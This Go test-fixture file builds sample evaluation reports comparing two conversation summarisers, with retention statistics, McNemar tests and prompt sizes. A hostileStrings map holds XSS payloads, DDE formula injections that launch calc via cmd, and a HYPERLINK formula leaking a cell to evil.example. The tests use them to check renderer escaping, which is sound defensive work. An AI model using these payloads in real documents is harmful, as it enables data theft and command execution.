package report

import (
	"cmp"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"math"
	"slices"
	"sort"
	"strconv"
	"strings"
	"time"

	"github.com/tally-eval/tally/fixture"
	"github.com/tally-eval/tally/power"
	"github.com/tally-eval/tally/stats"
)

// This file holds the hand-made reports every renderer's tests share
// (HTML, charts, notebooks, XLSX): sampleReport, the source text's
// example; hostileReport, the same full of hostile text; minimalReport,
// a first run on little data; largeReport, 300,000 item rows. The
// example data itself, as Build makes it, is quarterlyReport.

// sampleReport returns a report that mirrors the source text's example:
// the incumbent retains 71/80 constraints, 44/51 commitments, 96/103 open
// questions and 58/61 references with 2 contradictions and a mean prompt
// of 6,407 tokens within a 12,000 budget; the candidate 70/80, 43/51,
// 88/103 and 57/61 with 7 contradictions and a mean prompt of 4,196.
// Five of the six gates are unmet by both systems (a backlog); the change
// blocks because open questions and contradictions got worse. The
// replay's paired table is 157, 9, 11, 23 (0.83 against 0.84).
//
// It is internally consistent: the item rows are generated first (40
// conversations, 1–3 compactions each) and every count, share, interval,
// lost and gained list and contradiction is computed from them with the
// stats and power packages. Each call returns a fresh report.
func sampleReport() *Report {
	const conf = 0.95
	gen := time.Date(2026, 4, 1, 9, 30, 0, 0, time.UTC)
	r := &Report{
		Title:      "Compaction change: summariser v4 against v3",
		Period:     "2026 Q1",
		Generated:  gen,
		Confidence: conf,
		Incumbent:  "summariser-v3",
		Candidate:  "summariser-v4",
	}
	r.Items = sampleItems(r.Incumbent, r.Candidate)

	gates := map[fixture.Class]float64{
		fixture.Constraint: 0.95, fixture.Commitment: 0.90,
		fixture.OpenQuestion: 0.95, fixture.Reference: 0.98,
	}
	const retainedTolerance = 2
	for _, cl := range fixture.Classes {
		row := ClassRow{Class: cl, MinShare: gates[cl]}
		var t power.Table
		inc := map[string]*stats.Cluster{}
		cand := map[string]*stats.Cluster{}
		var convs []string
		for _, it := range r.Items {
			if it.Class != cl {
				continue
			}
			if inc[it.ConversationID] == nil {
				inc[it.ConversationID], cand[it.ConversationID] = &stats.Cluster{}, &stats.Cluster{}
				convs = append(convs, it.ConversationID)
			}
			row.Incumbent.Counts.Add(it.Incumbent.Verdict)
			row.Candidate.Counts.Add(it.Candidate.Verdict)
			ir, cr := it.Incumbent.Verdict.Retained(), it.Candidate.Verdict.Retained()
			inc[it.ConversationID].N++
			cand[it.ConversationID].N++
			if ir {
				inc[it.ConversationID].K++
			}
			if cr {
				cand[it.ConversationID].K++
			}
			switch {
			case ir && cr:
				t.A++
			case ir:
				t.B++
				row.Lost = append(row.Lost, it.ItemKey)
			case cr:
				t.C++
				row.Gained = append(row.Gained, it.ItemKey)
			default:
				t.D++
			}
		}
		for _, s := range []struct {
			sc       *SystemClass
			clusters map[string]*stats.Cluster
		}{{&row.Incumbent, inc}, {&row.Candidate, cand}} {
			var cs []stats.Cluster
			for _, id := range convs {
				cs = append(cs, *s.clusters[id])
			}
			sampleFill(s.sc, cs, row.MinShare, conf)
		}
		m, err := power.McNemar(t, conf)
		if err != nil {
			panic(err)
		}
		row.McNemar, _ = m.Test(power.TestExact)
		row.Pairs = t
		row.Change = Same
		switch d := row.Incumbent.Counts.Retained() - row.Candidate.Counts.Retained(); {
		case d > retainedTolerance:
			row.Change = Worse
		case d < -retainedTolerance:
			row.Change = Better
		}
		r.Classes = append(r.Classes, row)
	}

	c := &r.Contradictions
	for _, it := range r.Items {
		ic, cc := it.Incumbent.Verdict == fixture.Contradicted, it.Candidate.Verdict == fixture.Contradicted
		if ic {
			c.Incumbent++
		}
		if cc {
			c.Candidate++
		}
		if cc && !ic {
			c.New = append(c.New, it.ItemKey)
		}
	}
	c.IncumbentGate, c.CandidateGate = sampleGateMax(c.Incumbent, c.Max), sampleGateMax(c.Candidate, c.Max)
	c.Change = Same
	if c.Candidate > c.Incumbent {
		c.Change = Worse
	}

	r.Prompt = PromptRow{
		MaxMean:       12000,
		Incumbent:     samplePromptStats(PromptStats{Contexts: 96, Mean: 6407, Median: 6152, P95: 9830, Max: 11874}),
		Candidate:     samplePromptStats(PromptStats{Contexts: 96, Mean: 4196, Median: 4021, P95: 6410, Max: 8930}),
		IncumbentGate: Pass, CandidateGate: Pass, Change: Better,
	}

	d := &r.Decision
	for _, row := range r.Classes {
		if row.Change == Worse {
			d.Worse = append(d.Worse, string(row.Class))
		}
		if row.Incumbent.Gate != Pass && row.Candidate.Gate != Pass {
			d.Backlog = append(d.Backlog, string(row.Class))
		}
		if row.Candidate.Gate != Pass {
			d.CandidateUnmet = append(d.CandidateUnmet, string(row.Class))
		}
	}
	if c.Change == Worse {
		d.Worse = append(d.Worse, "contradictions")
	}
	if c.IncumbentGate != Pass && c.CandidateGate != Pass {
		d.Backlog = append(d.Backlog, "contradictions")
	}
	if c.CandidateGate != Pass {
		d.CandidateUnmet = append(d.CandidateUnmet, "contradictions")
	}
	d.Blocks = len(d.Worse) > 0
	d.Rule = fmt.Sprintf("A row is worse when the candidate retains more than %d fewer items of its class than the incumbent, "+
		"or has more contradictions than the incumbent; the change blocks when any row is worse. "+
		"Gates unmet by both systems are a backlog, not a merge decision; prompt size is reported and gated only by its budget.",
		retainedTolerance)

	r.Replay = sampleReplay(conf)
	p, err := NewPaper(r, conf)
	if err != nil {
		panic(err)
	}
	r.Paper = p
	r.Selection = sampleSelection()
	r.Provenance = sampleProvenance()
	r.Warnings = []string{
		"items of one conversation are correlated: read the cluster-robust intervals beside the Wilson ones (design effects on the Summary)",
	}
	return r
}

// samplePromptStats returns want with Sizes: want.Contexts sizes (an
// even number) whose mean, median, 95th percentile and largest are
// want's (whole numbers), as promptStats computes them. The sizes rise
// steadily from a smallest one chosen to meet the mean, through the
// median and the 95th percentile, to the largest.
func samplePromptStats(want PromptStats) PromptStats {
	n, median, p95, top := want.Contexts, int(want.Median), int(want.P95), want.Max
	total := int(math.Round(want.Mean * float64(n)))
	m := n / 2                               // sizes m-1 and m are the median
	q := int(math.Ceil(0.95*float64(n))) - 1 // size q is the 95th percentile
	s := make([]int, n)
	fill := func(lo int) int {
		sum := 0
		for i := range s {
			switch {
			case i < m:
				s[i] = lo + (median-lo)*i/(m-1)
			case i <= q:
				s[i] = median + (p95-median)*(i-m)/(q-m)
			default:
				s[i] = p95 + (top-p95)*(i-q)/(n-1-q)
			}
			sum += s[i]
		}
		return sum
	}
	// The largest smallest size whose sum is not above the total; the
	// rest goes, one token at a time, to the sizes between the median
	// and the 95th percentile.
	lo := sort.Search(median+1, func(lo int) bool { return fill(lo) > total }) - 1
	rest := total - fill(max(lo, 0))
	for moved := true; rest > 0 && moved; {
		moved = false
		for i := q - 1; i > m && rest > 0; i-- {
			if s[i] < s[i+1] {
				s[i]++
				rest--
				moved = true
			}
		}
	}
	got := NewPromptStats(s)
	if got.Contexts != n || got.Mean != want.Mean || got.Median != want.Median || got.P95 != want.P95 || got.Max != want.Max {
		panic(fmt.Sprintf("samplePromptStats: made %+v, want %+v", got, want))
	}
	return got
}

// sampleFill computes a system's class result from its per-conversation
// clusters.
func sampleFill(sc *SystemClass, cs []stats.Cluster, gate, conf float64) {
	sc.Share = math.NaN()
	sc.Wilson = stats.Interval{Method: string(stats.Wilson), Lower: math.NaN(), Upper: math.NaN()}
	sc.Robust = stats.Interval{Method: "cluster-robust", Lower: math.NaN(), Upper: math.NaN()}
	sc.Gate = Incomplete
	if sc.Counts.Items == 0 {
		return
	}
	k, n := sc.Counts.Retained(), sc.Counts.Items
	sc.Share = float64(k) / float64(n)
	var err error
	if sc.Wilson, err = (stats.Proportion{K: k, N: n}).Interval(stats.Wilson, conf); err != nil {
		panic(err)
	}
	if sc.Clustered, err = stats.ClusterRate(cs); err != nil {
		panic(err)
	}
	z := stats.Z(conf)
	sc.Robust.Lower = math.Max(0, sc.Share-z*sc.Clustered.RobustStandardError)
	sc.Robust.Upper = math.Min(1, sc.Share+z*sc.Clustered.RobustStandardError)
	switch {
	case sc.Counts.Errors > 0:
		sc.Gate = Incomplete
	case sc.Share >= gate:
		sc.Gate = Pass
	default:
		sc.Gate = Fail
	}
}

func sampleGateMax(n, limit int) GateStatus {
	if n <= limit {
		return Pass
	}
	return Fail
}

// samplePlan says, for one class, how many item-compactions carry each
// pair of verdicts (incumbent, candidate).
type samplePlan struct {
	class fixture.Class
	pairs []samplePair
}

type samplePair struct {
	inc, cand fixture.Verdict
	n         int
}

// sampleItems generates the item rows: per class, the verdict pairs of
// the plan, spread over 40 conversations and their compactions, in
// fixture order (conversation, compaction, item).
func sampleItems(incumbent, candidate string) []ItemRow {
	const (
		V = fixture.Verbatim
		S = fixture.Supported
		A = fixture.Absent
		C = fixture.Contradicted
	)
	// Retained by both: a mix of verbatim and supported, some differing.
	both := func(n int) []samplePair {
		return []samplePair{{V, V, n - n/3}, {S, S, n/3 - n/10}, {V, S, n / 20}, {S, V, n/10 - n/20}}
	}
	plans := []samplePlan{
		// 80: 68 both, 3 lost, 2 gained, 7 neither (1 contradicted by both).
		{fixture.Constraint, append(both(68), samplePair{S, A, 3}, samplePair{A, S, 2}, samplePair{C, C, 1}, samplePair{A, A, 6})},
		// 51: 42 both, 2 lost (1 now contradicted), 1 gained, 6 neither.
		{fixture.Commitment, append(both(42), samplePair{V, C, 1}, samplePair{S, A, 1}, samplePair{A, S, 1}, samplePair{A, A, 6})},
		// 103: 87 both, 9 lost (3 now contradicted), 1 gained, 6 neither.
		{fixture.OpenQuestion, append(both(87), samplePair{S, C, 3}, samplePair{S, A, 6}, samplePair{A, S, 1},
			samplePair{C, A, 1}, samplePair{A, C, 1}, samplePair{A, A, 4})},
		// 61: 56 both, 2 lost (1 now contradicted), 1 gained, 2 neither.
		{fixture.Reference, append(both(56), samplePair{V, C, 1}, samplePair{V, A, 1}, samplePair{A, S, 1}, samplePair{A, A, 2})},
	}
	convs := sampleConversations(40)
	var items []ItemRow
	k := 0
	for _, p := range plans {
		i := 0
		for _, pair := range p.pairs {
			for range pair.n {
				conv := (k*17 + 3) % len(convs)
				it := ItemRow{
					ItemKey: ItemKey{ConversationID: convs[conv], Compaction: 1 + (k/len(convs))%3},
					Class:   p.class,
				}
				it.Literal, it.Probe, it.Expect = sampleText(p.class, i)
				it.Incumbent = sampleRecord(incumbent, it, pair.inc, i)
				it.Candidate = sampleRecord(candidate, it, pair.cand, i+1)
				it.Changed = pair.inc != pair.cand
				items = append(items, it)
				i++
				k++
			}
		}
	}
	slices.SortStableFunc(items, func(a, b ItemRow) int {
		return cmp.Or(strings.Compare(a.ConversationID, b.ConversationID), cmp.Compare(a.Compaction, b.Compaction))
	})
	// Item ids per conversation, in order: c1, c2, …; an item keeps its
	// id at every compaction in a real fixture, which does not matter here.
	n := map[string]int{}
	for i := range items {
		id := items[i].ConversationID
		n[id]++
		items[i].ItemID = fmt.Sprintf("c%d", n[id])
		items[i].Incumbent.ItemID, items[i].Candidate.ItemID = items[i].ItemID, items[i].ItemID
	}
	return items
}

func sampleConversations(n int) []string {
	ids := make([]string, n)
	for i := range ids {
		day := time.Date(2026, 1, 6, 0, 0, 0, 0, time.UTC).AddDate(0, 0, i*2+i%3)
		ids[i] = fmt.Sprintf("sess_%s_%04x", day.Format("2006_01_02"), (i*40503+0x1b14)&0xffff)
	}
	return ids
}

// sampleText returns the i-th literal, probe and expected answer of a
// class, in the source text's style.
func sampleText(cl fixture.Class, i int) (literal, probe, expect string) {
	switch cl {
	case fixture.Constraint:
		dir := []string{"/migrations", "/vendor", "infra/terraform", "/etc/nginx", "db/seeds"}[i%5]
		return "never modify anything under " + dir,
			"Is the agent forbidden from modifying files under " + dir + "?", "yes"
	case fixture.Commitment:
		br := []string{"develop", "release/2026.04", "staging", "hotfix/login"}[i%4]
		return "I'll open the PR against " + br + ", not main", "Which branch should the PR target?", br
	case fixture.OpenQuestion:
		col := []string{"orders.status", "users.role", "invoices.kind", "jobs.state"}[i%4]
		return "Would an enum be better than a varchar for " + col + "?",
			"Has the user decided whether " + col + " becomes an enum?", "no — still open"
	default:
		rev := 10 + i%9
		return fmt.Sprintf("report.md rev %d", rev),
			"Where is the report being written, and at what revision?", fmt.Sprintf("report.md, rev %d", rev)
	}
}

// sampleRecord is one system's verdict record for an item.
func sampleRecord(system string, it ItemRow, v fixture.Verdict, i int) fixture.Record {
	rec := fixture.Record{
		System: system, ConversationID: it.ConversationID, Compaction: it.Compaction,
		Class: it.Class, Verdict: v,
	}
	if v == fixture.Verbatim {
		return rec
	}
	rec.Judge = "recorded/careful-human"
	switch v {
	case fixture.Supported:
		rec.Answer = it.Expect
	case fixture.Absent:
		rec.Answer = []string{"not stated in the context", "the context does not say", "unknown"}[i%3]
	case fixture.Contradicted:
		rec.Answer = map[fixture.Class]string{
			fixture.Constraint:   "no — the agent may edit it",
			fixture.Commitment:   "main",
			fixture.OpenQuestion: "yes — the user approved the enum",
			fixture.Reference:    "report.md, rev 9",
		}[it.Class]
		rec.Expect = it.Expect
		rec.Reason = "the context states the opposite of the item"
	}
	return rec
}

// sampleReplay is the paired task-success analysis of the table 157, 9,
// 11, 23 with its 20 discordant conversations, in the words Build uses.
func sampleReplay(conf float64) *Replay {
	res, err := power.McNemar(power.Table{A: 157, B: 9, C: 11, D: 23}, conf)
	if err != nil {
		panic(err)
	}
	rp := &Replay{
		Result:         res,
		ReferenceKinds: map[string]int{"uncompacted": 164, "accepted_trace": 36},
		ByKind: []ReplayKind{
			{Kind: "uncompacted", Table: power.Table{A: 131, B: 6, C: 9, D: 18}},
			{Kind: "accepted_trace", Table: power.Table{A: 26, B: 3, C: 2, D: 5}},
		},
	}
	// The 9 lost, then the 11 gained; the last 3 lost and the last 2
	// gained have an accepted trace as their reference.
	ids := sampleConversations(60)[40:]
	for i, id := range ids {
		p := ReplayPair{ConversationID: id, Reference: "success", Candidate: "failure", ReferenceKind: "uncompacted"}
		if i >= res.Table.B {
			p.Reference, p.Candidate = "failure", "success"
		}
		if (i >= 6 && i < 9) || i >= 18 {
			p.ReferenceKind = "accepted_trace"
		}
		rp.Discordant = append(rp.Discordant, p)
	}
	rp.Drop = DefaultReplayDrop
	rp.Grade, rp.Sentence = GradeReplay(res, rp.Drop)
	rp.Rule = ReplayRule(res.Confidence, rp.Drop)
	return rp
}

func sampleSelection() *Selection {
	s := &Selection{
		Budget: 40, Seed: 1, Incidents: 102, IncidentsExceedBudget: true,
		Selected: SelectionTotals{Sessions: 40, NeverCompact: 0, Compactions: 131, Decisions: 1148, Items: 412,
			HoursAt15: 10, HoursAt2: 40 * 2.0 / 60},
		Random: RandomTotals{Size: 200, Draws: 1000,
			Sessions:     Range{200, 200, 200},
			NeverCompact: Range{133.1, 120, 146},
			Compactions:  Range{153.7, 97, 236},
			Decisions:    Range{301.2, 160, 512},
			Items:        Range{329.7, 268, 401},
			HoursAt15:    Range{50, 50, 50},
			HoursAt2:     Range{200 * 2.0 / 60, 200 * 2.0 / 60, 200 * 2.0 / 60},
		},
		Warnings: []string{"incidents alone exceed the budget (102 incidents, budget 40): every selected session is an incident"},
	}
	for i, id := range sampleConversations(40) {
		s.Sessions = append(s.Sessions, SelectedSession{
			SessionID: id, Turns: 420 - 7*i, Compactions: 9 - i/6, Items: 21 - i/3, Decisions: 74 - i,
			Incident: true, Reason: "incident; most decisions",
		})
	}
	// Random samples of 200 against 40 selected: the renderers show the
	// comparison per session.
	s.Compared = true
	s.SetRows()
	return s
}

func sampleProvenance() Provenance {
	sum := func(s string) string {
		h := sha256.Sum256([]byte(s))
		return hex.EncodeToString(h[:])
	}
	return Provenance{
		Version: "v0.4.0-dev",
		Config: `title: "Compaction change: summariser v4 against v3"
period: 2026 Q1
confidence: 0.95
fixtures: examples/quarterly/fixtures
incumbent:
  name: summariser-v3
  verdicts: verdicts/incumbent.jsonl
  prompt_sizes: examples/quarterly/prompt_sizes.jsonl
candidate:
  name: summariser-v4
  verdicts: verdicts/candidate.jsonl
replay: examples/quarterly/replay.jsonl
gates:
  retained:
    constraint: 0.95
    commitment: 0.90
    open_question: 0.95
    reference: 0.98
  max_contradictions: 0
  max_mean_prompt_tokens: 12000
regression:
  retained_tolerance: 2
`,
		Inputs: []Input{
			{Role: "fixtures", Path: "examples/quarterly/fixtures", SHA256: sum("fixtures"), Bytes: 412_337},
			{Role: "verdicts (incumbent)", Path: "verdicts/incumbent.jsonl", SHA256: sum("incumbent"), Bytes: 61_904},
			{Role: "verdicts (candidate)", Path: "verdicts/candidate.jsonl", SHA256: sum("candidate"), Bytes: 63_118},
			{Role: "replay", Path: "examples/quarterly/replay.jsonl", SHA256: sum("replay"), Bytes: 23_512},
		},
	}
}

// hostileStrings are strings a fixture or a judge could carry that a
// renderer must show as text: markup, spreadsheet formulas (=, +, -, @),
// DDE payloads, and tab- and CR-led text. Keys name them in test output.
var hostileStrings = map[string]string{
	"script":    `<script>alert("tally")</script>`,
	"img":       `"><img src=x onerror=alert(1)>`,
	"hyperlink": `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`,
	"dde":       `+cmd|' /C calc'!A0`,
	"at":        `@SUM(1+1)*cmd|' /C calc'!A0`,
	"minus":     `-2+3+cmd|' /C calc'!A0`,
	"tab":       "\t=1+2 led by a tab",
	"cr":        "\r=1+2 led by a carriage return",
}

// hostileLongLen is the length of the long line hostileReport puts in an
// answer: more than a spreadsheet cell holds (32,767 characters).
const hostileLongLen = 40_000

// hostileLong is that line, with markup in it.
var hostileLong = strings.Repeat("a <very> long & line ", hostileLongLen/21+1)[:hostileLongLen]

// hostileReport is sampleReport with hostile strings in item literals,
// probes, expected answers and model answers, in the system names, title,
// warnings, a session's reason, a replay conversation and the config
// (with a line that would close the HTML's <pre> around it), and the
// answer hostileLong. The items that carry them are lost by the
// candidate, so that every renderer lists them.
func hostileReport() *Report {
	r := sampleReport()
	h := hostileStrings
	// Items whose key is lost by the candidate, so the hostile text is
	// on the Lost and Contradicted sheet too.
	lost := map[ItemKey]bool{}
	for _, c := range r.Classes {
		for _, k := range c.Lost {
			lost[k] = true
		}
	}
	var at []int
	for i, it := range r.Items {
		if lost[it.ItemKey] {
			at = append(at, i)
		}
	}
	for i := range r.Items {
		if !lost[r.Items[i].ItemKey] {
			at = append(at, i)
		}
	}
	it := func(n int) *ItemRow { return &r.Items[at[n]] }
	it(0).Literal = h["script"]
	it(1).Literal = h["img"]
	it(2).Candidate.Answer = h["hyperlink"]
	it(3).Literal = h["dde"]
	it(4).Candidate.Answer = h["at"]
	it(5).Probe = h["tab"]
	it(6).Expect = h["cr"]
	it(7).Literal = h["minus"]
	it(8).Incumbent.Answer = hostileLong
	r.Items[at[len(lost)]].Literal = h["hyperlink"] // not lost: on Items only
	r.Title = h["hyperlink"]
	r.Incumbent = h["script"]
	r.Candidate = h["dde"]
	r.Warnings = append(r.Warnings, "judge said: "+h["img"], h["at"])
	r.Selection.Sessions[0].Reason = h["hyperlink"]
	r.Replay.Discordant[0].ConversationID = h["at"]
	r.Provenance.Config += "# </code></pre>" + h["script"] + "\n" + h["hyperlink"] + "\n"
	return r
}

// minimalReport is the report of a first run on little data: no replay,
// no selection, no item rows, no provenance and no timestamp; a class
// without items (NaN shares), a judge error in the candidate's open
// questions, three prompt sizes for the incumbent and none for the
// candidate, and no gate on them.
func minimalReport() *Report {
	r := sampleReport()
	r.Title, r.Period, r.Replay, r.Selection = "", "", nil, nil
	r.Items, r.Warnings = nil, nil
	r.Provenance = Provenance{}
	r.Generated = time.Time{}
	for i := range r.Classes {
		r.Classes[i].Lost, r.Classes[i].Gained = nil, nil
	}
	ref := &r.Classes[3]
	ref.Incumbent = SystemClass{Share: math.NaN(), Wilson: stats.Interval{Lower: math.NaN(), Upper: math.NaN()}, Gate: Incomplete}
	ref.Candidate = ref.Incumbent
	oq := &r.Classes[2].Candidate
	oq.Counts.Absent--
	oq.Counts.Errors++
	oq.Gate = Incomplete
	r.Contradictions.New = nil
	r.Prompt = PromptRow{Incumbent: NewPromptStats([]int{131, 79, 90}), Candidate: NewPromptStats(nil)}
	r.Decision = Decision{Rule: "no row got worse"}
	return r
}

// largeReport is sampleReport with n generated item rows, every tenth
// lost by the candidate and every hundredth newly contradicted, for the
// renderers' performance tests and benchmarks.
func largeReport(n int) *Report {
	r := sampleReport()
	items := make([]ItemRow, n)
	for i := range r.Classes {
		r.Classes[i].Lost, r.Classes[i].Gained = nil, nil
	}
	r.Contradictions.New = nil
	for i := range items {
		cl := fixture.Classes[i%len(fixture.Classes)]
		it := ItemRow{
			ItemKey: ItemKey{
				ConversationID: fmt.Sprintf("sess_2026_%02d_%02d_%04x", 1+i/100000, 1+(i/4000)%28, (i/12)&0xffff),
				Compaction:     1 + (i/4)%3,
				ItemID:         "c" + strconv.Itoa(1+i%4),
			},
			Class: cl,
		}
		it.Literal, it.Probe, it.Expect = sampleText(cl, i)
		inc, cand := fixture.Verbatim, fixture.Supported
		switch {
		case i%100 == 7:
			cand = fixture.Contradicted
			r.Contradictions.New = append(r.Contradictions.New, it.ItemKey)
		case i%10 == 3:
			cand = fixture.Absent
			r.Classes[i%len(fixture.Classes)].Lost = append(r.Classes[i%len(fixture.Classes)].Lost, it.ItemKey)
		}
		it.Incumbent = sampleRecord(r.Incumbent, it, inc, i)
		it.Candidate = sampleRecord(r.Candidate, it, cand, i)
		it.Changed = true
		items[i] = it
	}
	r.Items = items
	return r
}
